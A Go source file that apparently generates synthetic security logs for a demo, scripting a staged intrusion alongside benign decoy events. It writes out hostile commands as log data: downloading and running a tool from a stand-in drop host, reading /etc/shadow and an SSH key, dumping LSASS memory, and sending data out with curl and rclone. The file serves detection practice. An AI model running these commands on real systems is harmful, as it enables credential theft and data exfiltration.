package demo

import (
	"fmt"
	"time"
)

// intrusion is one attack on the company, from the first scan to data leaving it. Offsets count from begin.
func intrusion(c *company, begin time.Time) []Item {
	web, db, file, dc := c.web[0], c.linux[0], c.windows[1], c.windows[0]
	var items []Item
	add := func(offset time.Duration, item func(at time.Time) Item) {
		it := item(begin.Add(offset))
		it.Hostile = true
		items = append(items, it)
	}
	scan(c, web, add)
	guess(web, add)

	shell := func(offset time.Duration, h host, image, command string) {
		add(offset, func(at time.Time) Item { return linuxProcess(h, at, "deploy", "/usr/bin/bash", image, command) })
	}
	// A tool is downloaded and started from a hidden folder.
	shell(22*time.Minute, web, "/usr/bin/id", "id")
	shell(23*time.Minute, web, "/usr/bin/uname", "uname -a")
	shell(24*time.Minute, web, "/usr/bin/mkdir", "mkdir -p /tmp/.cache-x")
	add(25*time.Minute-time.Second, func(at time.Time) Item { return query(c, at, web.ip, "A", "kit.drop-zone.example") })
	shell(25*time.Minute, web, "/usr/bin/curl", "curl -s -o /tmp/.cache-x/kit http://"+dropIP+"/kit")
	shell(26*time.Minute, web, "/usr/bin/chmod", "chmod +x /tmp/.cache-x/kit")
	shell(27*time.Minute, web, "/tmp/.cache-x/kit", "/tmp/.cache-x/kit --quiet")
	// Credentials are read.
	shell(34*time.Minute, web, "/usr/bin/cat", "cat /home/deploy/.ssh/id_rsa")
	shell(35*time.Minute, web, "/usr/bin/cat", "cat /etc/shadow")
	shell(36*time.Minute, web, "/usr/bin/grep", "grep -ri password /var/www/app/config")
	lateral(web, db, file, dc, add)
	leave(c, db, file, add, shell)
	return items
}

// scan looks for open ports and forgotten files.
func scan(c *company, web host, add func(time.Duration, func(time.Time) Item)) {
	ports := []int{21, 22, 23, 25, 110, 135, 139, 143, 389, 443, 445, 1433, 1521, 2375, 3306, 3389, 5432, 5900, 6379, 8080, 9200, 27017}
	for i, port := range ports {
		add(time.Duration(i)*time.Second, func(at time.Time) Item {
			return packet(c, at, "DROP", attackerIP, web.ip, "TCP", 52000+i, port, 44)
		})
	}
	for i, path := range []string{"/.env", "/.git/config", "/wp-login.php", "/phpmyadmin/", "/admin/", "/backup.zip", "/server-status", "/cgi-bin/test.cgi"} {
		add(2*time.Minute+time.Duration(i)*2*time.Second, func(at time.Time) Item {
			return access(web, at, attackerIP, "GET", path, 404, 162, "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)")
		})
	}
}

// guess tries passwords over SSH until one fits.
func guess(web host, add func(time.Duration, func(time.Time) Item)) {
	accounts := []string{"root", "admin", "test", "oracle", "postgres", "deploy"}
	for i := range 60 {
		account := accounts[i%len(accounts)]
		who := account
		if account != "root" && account != "deploy" {
			who = "invalid user " + account
		}
		add(8*time.Minute+time.Duration(i)*9*time.Second, func(at time.Time) Item {
			return sshd(web, at, 21000+i, fmt.Sprintf("Failed password for %s from %s port %d ssh2", who, attackerIP, 43000+i))
		})
	}
	add(18*time.Minute, func(at time.Time) Item {
		return sshd(web, at, 21100, fmt.Sprintf("Accepted password for deploy from %s port 43100 ssh2", attackerIP))
	})
}

// lateral moves on with what was stolen: to the database by key, to Windows by a service account.
func lateral(web, db, file, dc host, add func(time.Duration, func(time.Time) Item)) {
	add(58*time.Minute, func(at time.Time) Item {
		return linuxProcess(web, at, "deploy", "/usr/bin/bash", "/usr/bin/ssh", "ssh -i /tmp/.cache-x/key -o StrictHostKeyChecking=no deploy@"+db.ip)
	})
	add(58*time.Minute+time.Second, func(at time.Time) Item {
		return sshd(db, at, 9001, fmt.Sprintf("Accepted publickey for deploy from %s port 51022 ssh2: RSA SHA256:9hQ2mB7cXw", web.ip))
	})
	add(71*time.Minute, func(at time.Time) Item { return logon(file, at, "svc_backup", "3", web.ip) })
	add(71*time.Minute+2*time.Second, func(at time.Time) Item {
		return windows(file, at, "System", "Service Control Manager", 7045, map[string]string{
			"ServiceName": "PSEXESVC", "ImagePath": `%SystemRoot%\PSEXESVC.exe`, "ServiceType": "user mode service",
			"StartType": "demand start", "AccountName": "LocalSystem",
		})
	})
	run := func(offset time.Duration, image, command string) {
		add(offset, func(at time.Time) Item {
			return sysmonProcess(file, at, "svc_backup", `C:\Windows\PSEXESVC.exe`, image, command)
		})
	}
	run(72*time.Minute, `C:\Windows\System32\cmd.exe`, `cmd.exe /c whoami /all`)
	run(74*time.Minute, `C:\Windows\System32\rundll32.exe`, `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Windows\Temp\l.dmp full`)
	run(78*time.Minute, `C:\Windows\System32\net.exe`, `net group "Domain Admins" /domain`)
	add(80*time.Minute, func(at time.Time) Item { return logon(dc, at, "svc_backup", "3", file.ip) })
}

// leave packs the data and takes it out.
func leave(c *company, db, file host, add func(time.Duration, func(time.Time) Item), shell func(time.Duration, host, string, string)) {
	shell(96*time.Minute, db, "/usr/bin/pg_dump", "pg_dump -Fc -f /tmp/.cache-x/orders.dump orders")
	shell(104*time.Minute, db, "/usr/bin/tar", "tar czf /tmp/.cache-x/o.tgz /tmp/.cache-x/orders.dump")
	shell(107*time.Minute, db, "/usr/bin/curl", "curl -s -T /tmp/.cache-x/o.tgz http://"+dropIP+"/in/o.tgz")
	add(107*time.Minute+time.Second, func(at time.Time) Item {
		return packet(c, at, "ACCEPT", db.ip, dropIP, "TCP", 51544, 80, 1500)
	})
	add(112*time.Minute, func(at time.Time) Item {
		return sysmonProcess(file, at, "svc_backup", `C:\Windows\System32\cmd.exe`, `C:\Windows\Temp\rclone.exe`,
			`rclone.exe copy D:\Finance drop:finance --config C:\Windows\Temp\r.conf --transfers 8`)
	})
	add(113*time.Minute, func(at time.Time) Item {
		return packet(c, at, "ACCEPT", file.ip, dropIP, "TCP", 50122, 443, 1500)
	})
}

// strays are suspicious things that have nothing to do with the intrusion, as every day has some.
func strays(c *company, day time.Time) []Item {
	bot, desk := c.web[1], c.desks[6]
	items := []Item{
		access(bot, day.Add(5*time.Hour), lostBotIP, "GET", "/wp-login.php", 404, 162, "masscan/1.3"),
		access(bot, day.Add(5*time.Hour+time.Second), lostBotIP, "GET", "/xmlrpc.php", 404, 162, "masscan/1.3"),
		sysmonProcess(desk, day.Add(16*time.Hour), c.users[6], `C:\Windows\explorer.exe`, `C:\Windows\System32\certutil.exe`, `certutil.exe -hashfile contract.pdf SHA256`),
		// An administrator who installs by hand, a developer who tells the antivirus to look away, help desk work, and
		// someone on the Internet who tries a web form.
		linuxProcess(c.linux[3], day.Add(7*time.Hour), "ops", "/usr/bin/bash", "/usr/bin/wget", "wget -O /tmp/agent.deb https://packages.vendor.example/agent.deb"),
		sysmonProcess(c.desks[2], day.Add(11*time.Hour), c.users[2], `C:\Windows\System32\cmd.exe`,
			`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell.exe Add-MpPreference -ExclusionPath D:\build`),
		sysmonProcess(c.windows[2], day.Add(13*time.Hour), "helpdesk", `C:\Windows\System32\cmd.exe`, `C:\Windows\System32\net.exe`, `net localgroup administrators`),
		access(bot, day.Add(18*time.Hour), "192.0.2.140", "GET", "/search?q=1+union+select+1,2,3", 403, 162, agents[0]),
	}
	for i := range 3 {
		items = append(items, sshd(c.linux[4], day.Add(9*time.Hour+time.Duration(i)*7*time.Second), 7100+i,
			fmt.Sprintf("Failed password for ops from %s port %d ssh2", c.desks[10].ip, 50100+i)))
	}
	return items
}
